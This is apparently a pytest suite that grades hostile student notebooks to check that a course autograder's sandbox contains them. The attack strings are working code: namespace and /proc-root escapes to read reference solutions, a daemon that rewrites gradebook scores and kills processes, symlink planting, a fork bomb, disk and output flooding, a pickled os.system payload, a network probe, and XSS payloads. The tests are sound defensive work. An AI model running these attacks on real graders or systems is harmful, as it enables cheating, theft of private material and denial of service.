"""Hostile students who know Linux, graded as root next to honest students.

Each attacker hands in the untouched stub (its real work deserves 0) plus one attack: escaping
the grading worker, escaping the notebook run and leaving a daemon behind, planting symbolic
links, grading forever, exhausting the grader's memory, the machine's processes, disk or
output, reaching the network, or smuggling live HTML into the feedback. The class is graded
through `attention-course check` and through nbgrader (autograde, then feedback) in a course
copy outside /tmp. Afterwards: attackers score 0, honest students full marks, the course's own
files are unchanged, nothing secret appears in any output, no link exists in autograded/ or
feedback/, and no process of a sandbox is left.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from attention_course.classgrade.nbgrader_api import copy_course, gradebook_scores, release
from attention_course.classgrade.run import autograde_class
from attention_course.cli.samples import fill, sample_notebooks
from attention_course.sandbox import confined, jail
from attention_course.settings import DEFAULT
from tests.course import COURSE_ROOT, GRADER_DIR, REFERENCE_FILE

# Grading must end within its deadlines and the endless cell's notebook within its 20 s: run
# after the other tests, with nothing else of ours beside it (scripts/test.sh); with the other
# tests running in parallel the notebook ran out of time before its last cell.
pytestmark = pytest.mark.alone

ASSIGNMENT = "attention_basics"
CANARY = f"CANARY-{uuid.uuid4().hex}"  # in an honest student's notebook only
LEFT_BEHIND = f"ac{uuid.uuid4().hex[:10]}"  # the name the attackers' daemons and children take

# --------------------------------------------------------------------------- the attacks

WORKER_ESCAPE = """
import ctypes, os, subprocess
stolen = None
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000 | 0x00020000, 0x00020000, 0x10000000):
    if libc.unshare(flags) == 0:
        for target in (b"/tmp", b"/", b"/usr"):
            libc.umount2(target, 2)
        libc.mount(b"none", b"/", None, 0x20 | 0x4000, None)  # MS_REMOUNT | MS_BIND
for cmd in (["unshare", "-Urm", "cat", {reference!r}], ["cat", {reference!r}],
            ["sh", "-c", "cat /proc/*/root{reference}"]):
    try:
        out = subprocess.run(cmd, capture_output=True, text=True, timeout=5).stdout
    except Exception:
        continue
    if "def softmax" in out:
        stolen = out
for candidate in ({reference!r}, "/proc/1/root" + {reference!r},
                  "/proc/%d/root%s" % (os.getppid(), {reference!r})):
    try:
        stolen = open(candidate).read()
        break
    except OSError:
        pass
if stolen:
    exec(stolen)  # the reference's functions: full marks, if the sandbox let this through
else:
    def softmax(z, axis=-1):
        raise NotImplementedError()
print("stolen" if stolen else "nothing stolen")
"""

KERNEL_ESCAPE = """
import glob, os, sqlite3, time
for root in sorted(glob.glob("/proc/*/root")) + ["/proc/self/root", "/proc/1/root"]:
    for path in ({reference!r}, {course!r} + "/source/attention_basics/attention_basics.ipynb",
                 {course!r} + "/submitted/honest-a/attention_basics/attention_basics.ipynb"):
        try:
            print(open(root + path).read())
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import ctypes
        ctypes.CDLL(None).prctl(15, {left!r}.encode(), 0, 0, 0)  # PR_SET_NAME: to be found
        end = time.time() + 60
        while time.time() < end:
            for db in ({course!r} + "/gradebook.db", "/proc/1/root" + {course!r} + "/gradebook.db"):
                try:
                    con = sqlite3.connect(db, timeout=1)
                    con.execute("UPDATE grade SET manual_score = 0")
                    con.execute("UPDATE grade SET auto_score = 5")
                    con.commit()
                except Exception:
                    pass
            for pid in range(2, 5000):
                try:
                    os.kill(pid, 9)
                except Exception:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
os.wait()
print("a daemon is left behind")
"""

SYMLINKS = """
import os
targets = {{
    "attention_basics.ipynb": {course!r} + "/gradebook.db",
    "reference.html": {reference!r},
    "source.ipynb": {course!r} + "/source/attention_basics/attention_basics.ipynb",
    "other.ipynb": {course!r} + "/submitted/honest-a/attention_basics/attention_basics.ipynb",
    "gradebook.db": {course!r} + "/gradebook.db",
}}
for name, target in targets.items():
    for folder in (".", os.path.expanduser("~"), "/tmp", "../" * 3):
        try:
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass
print(sorted(os.listdir(".")))
"""

ENDLESS = """
import json, os, signal, struct, time
def softmax(z, axis=-1):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    body = json.dumps({{"op": "call", "status": "ok", "value": {{"value": 1}}}}).encode()
    frame = b"ACW1" + struct.pack("<IQ", len(body), 0) + body
    while True:  # forge progress and replies, for ever
        for fd in range(0, 64):
            try:
                os.write(fd, frame)
            except OSError:
                pass
        time.sleep(0.01)
"""

ENDLESS_NOTEBOOK = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
"""

GRADER_MEMORY = """
import json, os, struct
def _send(header, payload=b""):
    body = json.dumps(header).encode()
    frame = b"ACW1" + struct.pack("<IQ", len(body), len(payload)) + body + payload
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
def softmax(z, axis=-1):  # an array of 10**10 float64s, declared in 8 bytes
    _send({{"op": "call", "status": "ok", "value": {{"array": 0}},
           "arrays": [{{"dtype": "<f8", "shape": [100000, 100000], "offset": 0}}]}}, b"\\0" * 8)
    return z
def create_qkv(X, W_q, W_k, W_v):  # a pickled object where an array should be
    import pickle
    _send({{"op": "call", "status": "ok", "value": {{"array": 0}},
           "arrays": [{{"dtype": "|O", "shape": [1], "offset": 0}}]}},
          pickle.dumps(os.system))
    return X, X, X
def causal_mask(seq_len):  # a header of a gigabyte
    _send({{"op": "call", "status": "ok", "value": {{"value": "x" * (1 << 30)}}}})
    import numpy as np
    return np.zeros((seq_len, seq_len), bool)
"""

FORK_BOMB = """
import ctypes, os, time
children = 0
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        ctypes.CDLL(None).prctl(15, {left!r}.encode(), 0, 0, 0)  # PR_SET_NAME: to be found
        time.sleep(60)
        os._exit(0)
    children += 1
print("children:", children)
"""

DISK_AND_OUTPUT = """
import os
written = 0
for folder in ("/tmp", ".", os.path.expanduser("~"), "/dev/shm", "/", "/usr"):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            for _ in range(300):
                f.write(b"\\0" * (1 << 20))
                written += 1 << 20
    except OSError:
        pass
kept = 0
for folder in {os.path.realpath(p) for p in ("/tmp", ".", os.path.expanduser("~"), "/dev/shm")}:
    try:
        kept += os.path.getsize(os.path.join(folder, "fill.bin"))
    except OSError:
        pass
print("kept MB:", kept >> 20)
print("x" * (200 * 1024 * 1024))
"""

NETWORK = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"{marker}")
    print("connected")
except OSError as exc:
    print("no network:", exc)
"""

LIVE_HTML = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='PWNED-html'</script><b>bold</b>"))
display(Javascript("document.title='PWNED-js'"))
display({{"text/html": "<img src=x onerror=alert('PWNED-img')>"}}, raw=True)
"""


def _released() -> Path:
    return COURSE_ROOT / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def _with_cells(nb, cells: list[str], markdown: list[str] = ()):
    for source in cells:
        nb.cells.append(nbformat.v4.new_code_cell(source))
    for source in markdown:
        nb.cells.append(nbformat.v4.new_markdown_cell(source))
    return nb


def attackers(course: Path, port: int, marker: str) -> dict[str, object]:
    """student id -> notebook: the stub, plus one attack each."""
    ctx = {"course": str(course), "reference": str(REFERENCE_FILE), "port": port}
    ctx["marker"] = marker
    ctx["left"] = LEFT_BEHIND
    stub = _released()
    return {
        "worker-escape": fill(stub, {"softmax": WORKER_ESCAPE.format(**ctx)}),
        "kernel-escape": _with_cells(fill(stub, {}), [KERNEL_ESCAPE.format(**ctx)]),
        "symlinks": _with_cells(fill(stub, {}), [SYMLINKS.format(**ctx)]),
        "endless": _with_cells(
            fill(stub, {"softmax": ENDLESS.format(**ctx)}),
            [ENDLESS_NOTEBOOK, "print('after the endless cell')"],
        ),
        "grader-memory": fill(stub, {"softmax": GRADER_MEMORY.format(**ctx)}),
        "fork-bomb": fill(
            stub, {"softmax": FORK_BOMB.format(**ctx) + "\nraise NotImplementedError()"}
        ),
        "disk-and-output": _with_cells(fill(stub, {}), [DISK_AND_OUTPUT]),
        "network": _with_cells(fill(stub, {}), [NETWORK.format(**ctx)]),
        "live-html": _with_cells(
            fill(stub, {}),
            [LIVE_HTML.format(**ctx)],
            ["<script>alert('PWNED-md')</script> [x](javascript:alert('PWNED-link'))"],
        ),
    }


def refused_submissions(course: Path) -> dict[str, str]:
    """student id -> the words that must appear in the reason it was not graded."""
    return {
        "link-to-source": "symbolic link",
        "link-beside": "symbolic link",
        "oversized": "MB",
    }


def _write_refused(course: Path) -> None:
    folder = course / "submitted"
    source_nb = course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    d = folder / "link-to-source" / ASSIGNMENT
    d.mkdir(parents=True)
    (d / f"{ASSIGNMENT}.ipynb").symlink_to(source_nb)
    d = folder / "link-beside" / ASSIGNMENT
    d.mkdir(parents=True)
    shutil.copy(_released(), d / f"{ASSIGNMENT}.ipynb")
    (d / "notes.txt").symlink_to(REFERENCE_FILE)
    d = folder / "oversized" / ASSIGNMENT
    d.mkdir(parents=True)
    nb = fill(_released(), {})
    nb.cells.append(nbformat.v4.new_code_cell("# " + "x" * (DEFAULT.submission_bytes + 1024)))
    nbformat.write(nb, d / f"{ASSIGNMENT}.ipynb")


# --------------------------------------------------------------------------- what must not leak


def secrets() -> list[str]:
    """Lines that only the reference, the graders, the instructor's solutions or another
    student's notebook hold."""
    found = [CANARY]
    reference = REFERENCE_FILE.read_text().splitlines()
    found += [ln.strip() for ln in reference if len(ln.strip()) > 30][:20]
    for grader in sorted(GRADER_DIR.glob("test_*.py"))[:4]:
        found.append(grader.read_text().splitlines()[0])
    source = nbformat.read(COURSE_ROOT / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    for cell in source.cells:
        if "### BEGIN SOLUTION" in cell.source:
            body = cell.source.split("### BEGIN SOLUTION")[1].split("### END SOLUTION")[0]
            found += [ln.strip() for ln in body.splitlines() if len(ln.strip()) > 25][:3]
    public = _released().read_text()  # a signature or a comment the students have anyway
    return sorted({s for s in found if s not in public and json.dumps(s)[1:-1] not in public})


def _leaks(text: str) -> list[str]:
    return [s for s in secrets() if s in text]


def _tree_hash(paths: list[Path]) -> str:
    digest = hashlib.sha256()
    for top in paths:
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file())
        for path in files:
            if "__pycache__" in path.parts:
                continue
            digest.update(str(path).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def _protected() -> list[Path]:
    paths = [GRADER_DIR, COURSE_ROOT / "source", COURSE_ROOT / "nbgrader_config.py"]
    return paths + [p for p in [COURSE_ROOT / "gradebook.db"] if p.exists()]


def _left_behind() -> list[int]:
    """Live processes that an attacker of this run started (they name themselves LEFT_BEHIND;
    the name tells them apart from sandboxes of other runs on the machine)."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/stat") as f:
                name, rest = f.read().split("(", 1)[1].rsplit(")", 1)
        except (OSError, ValueError):
            continue
        if name == LEFT_BEHIND and rest.split()[0] != "Z":  # a zombie runs nothing
            found.append(int(entry.name))
    return found


class Listener:
    """A server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(100) or b"(connected)")

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


# --------------------------------------------------------------------------- the class


@pytest.fixture(scope="module")
def attacked_class():
    """A course copy outside /tmp (the sandbox blanks /tmp anyway, so hiding must be proved
    elsewhere), honest students and attackers, graded by `check` and by nbgrader."""
    if not confined.probe().ok:
        pytest.fail(f"no sandbox on this machine: {confined.probe().detail}")
    before = _tree_hash(_protected())
    base = Path(tempfile.mkdtemp(prefix="attention-attacks-", dir="/var/tmp"))
    course = copy_course(base / "course", COURSE_ROOT)
    listener = Listener()
    marker = f"NET-{uuid.uuid4().hex[:8]}"
    try:
        release(root=course)
        solutions = sample_notebooks(ASSIGNMENT, course)["demo-instructor"]
        honest = {"honest-a": nbformat.from_dict(json.loads(nbformat.writes(solutions)))}
        honest["honest-b"] = solutions
        for cell in honest["honest-a"].cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "softmax":
                cell.source += f"\n# {CANARY}\n"
        hostile = attackers(course, listener.port, marker)
        notebooks = {**honest, **hostile}
        for student, nb in notebooks.items():
            folder = course / "submitted" / student / ASSIGNMENT
            folder.mkdir(parents=True)
            nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
        _write_refused(course)
        students = sorted(p.name for p in (course / "submitted").iterdir())
        start = time.monotonic()
        results = autograde_class(ASSIGNMENT, course, jobs=2).outcomes
        grading_seconds = time.monotonic() - start
        checks = {}
        for student in notebooks:
            path = course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
            t0 = time.monotonic()
            proc = subprocess.run(
                [sys.executable, "-m", "attention_course.cli.main", "check", str(path), "--json"],
                capture_output=True,
                text=True,
                timeout=600,
            )
            checks[student] = (proc, time.monotonic() - t0)
        time.sleep(0.5)
        yield {
            "course": course,
            "results": results,
            "scores": gradebook_scores(ASSIGNMENT, course),
            "checks": checks,
            "honest": sorted(honest),
            "hostile": sorted(hostile),
            "grading_seconds": grading_seconds,
            "students": students,
            "listener": listener,
            "marker": marker,
            "before": before,
        }
    finally:
        listener.close()
        shutil.rmtree(base, ignore_errors=True)


def _full_marks() -> float:
    from tests.content.test_notebooks import cell_points

    return float(sum(cell_points(ASSIGNMENT).values()))


def test_honest_students_keep_full_marks(attacked_class):
    for student in attacked_class["honest"]:
        assert attacked_class["results"][student].status == "graded", student
        assert attacked_class["scores"][student]["total"] == _full_marks(), student


@pytest.mark.parametrize("student", sorted(attackers(Path("/x"), 0, "")))
def test_attacker_scores_what_its_stub_deserves(attacked_class, student):
    outcome = attacked_class["results"][student]
    assert outcome.status == "graded", outcome.reason
    assert attacked_class["scores"][student]["total"] == 0
    proc, _ = attacked_class["checks"][student]
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["score"] == 0


def test_gradebook_holds_no_forged_score(attacked_class):
    db = attacked_class["course"] / "gradebook.db"
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
        assert con.execute(
            "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL"
        ).fetchone() == (0,)
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_course_files_are_unchanged(attacked_class):
    assert _tree_hash(_protected()) == attacked_class["before"]
    course = attacked_class["course"]
    assert (course / "nbgrader_config.py").read_bytes() == (
        COURSE_ROOT / "nbgrader_config.py"
    ).read_bytes()
    for path in (COURSE_ROOT / "source").rglob("*"):
        if path.is_file():
            copy = course / "source" / path.relative_to(COURSE_ROOT / "source")
            assert copy.read_bytes() == path.read_bytes(), path


def test_nothing_secret_appears_in_any_output(attacked_class):
    course = attacked_class["course"]
    for student in attacked_class["hostile"]:
        for folder in ("autograded", "feedback"):
            for path in (course / folder / student).rglob("*"):
                if path.is_file() and not path.is_symlink():
                    leaks = _leaks(path.read_text(errors="replace"))
                    assert not leaks, (path, leaks[:2])
        proc, _ = attacked_class["checks"][student]
        assert not _leaks(proc.stdout + proc.stderr), student


def test_no_link_in_autograded_or_feedback(attacked_class):
    course = attacked_class["course"]
    for folder in ("autograded", "feedback"):
        for path in (course / folder).rglob("*"):
            assert not path.is_symlink(), path


def test_refused_submissions_say_why_and_nothing_was_copied(attacked_class):
    course = attacked_class["course"]
    for student, words in refused_submissions(course).items():
        outcome = attacked_class["results"][student]
        assert outcome.status == "not graded"
        assert words in outcome.reason, outcome.reason
        assert not (course / "autograded" / student).exists()
        assert attacked_class["scores"].get(student, {"total": 0})["total"] == 0


def test_no_process_of_an_attacker_is_left(attacked_class):
    assert _left_behind() == []


def test_a_left_behind_process_would_be_found():
    """The name the attackers' daemon and children take is what the check above looks for."""
    code = (
        "import ctypes, time\n"
        f"ctypes.CDLL(None).prctl(15, {LEFT_BEHIND!r}.encode(), 0, 0, 0)\n"
        "time.sleep(30)\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", code])
    try:
        deadline = time.monotonic() + 10
        while proc.pid not in _left_behind() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert proc.pid in _left_behind()
    finally:
        proc.kill()
        proc.wait()


def test_grading_ends_within_its_deadlines(attacked_class):
    notebook = DEFAULT.backstop(DEFAULT.notebook_timeout)  # the notebook run's absolute limit
    per_submission = notebook + DEFAULT.submission_timeout + 30
    rounds = -(-len(attacked_class["students"]) // 2)
    assert attacked_class["grading_seconds"] < rounds * per_submission
    for student, (_, seconds) in attacked_class["checks"].items():
        assert seconds < DEFAULT.submission_timeout + 30, student


def test_endless_notebook_cell_fails_alone(attacked_class):
    course = attacked_class["course"]
    nb = nbformat.read(course / "autograded" / "endless" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    texts = [json.dumps(c.get("outputs", [])) for c in nb.cells if c.cell_type == "code"]
    assert any("CellTimeoutError" in t for t in texts)
    assert "after the endless cell" in texts[-1]


def test_no_network_reaches_the_host(attacked_class):
    assert attacked_class["listener"].received == []
    course = attacked_class["course"]
    nb = (course / "autograded" / "network" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    assert "no network" in nb


def test_outputs_are_capped(attacked_class):
    course = attacked_class["course"]
    path = course / "autograded" / "disk-and-output" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert path.stat().st_size < 3 * DEFAULT.cell_output_bytes
    text = path.read_text()
    kept = int(re.search(r"kept MB: (\d+)", text).group(1))
    assert 0 < kept * 1024**2 <= DEFAULT.tmp_bytes + jail.SHM_BYTES
    assert "output truncated" in text


def test_feedback_holds_no_live_script(attacked_class):
    course = attacked_class["course"]
    html = (course / "feedback" / "live-html" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert not re.search(r"<script[^>]*>[^<]*PWNED", html)
    assert not re.search(r"<img[^>]*onerror", html, re.I)
    assert "javascript:alert('PWNED" not in html
    autograded = course / "autograded" / "live-html" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    nb = nbformat.read(autograded, 4)
    mimes = {
        m for c in nb.cells if c.cell_type == "code" for o in c.outputs for m in o.get("data", {})
    }
    assert "text/plain" in mimes
    assert mimes <= {"text/plain", "image/png", "image/jpeg"}
